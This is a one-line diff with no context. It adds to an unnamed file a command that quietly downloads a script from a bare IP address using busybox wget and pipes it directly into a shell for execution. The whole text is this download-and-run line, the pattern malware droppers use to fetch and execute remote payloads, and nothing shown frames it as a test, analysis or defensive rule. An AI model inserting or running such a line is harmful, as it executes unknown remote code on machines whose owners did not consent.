@@ -1,0 +1,1 @@
+busybox wget -qO- http://203.0.113.7/x | sh
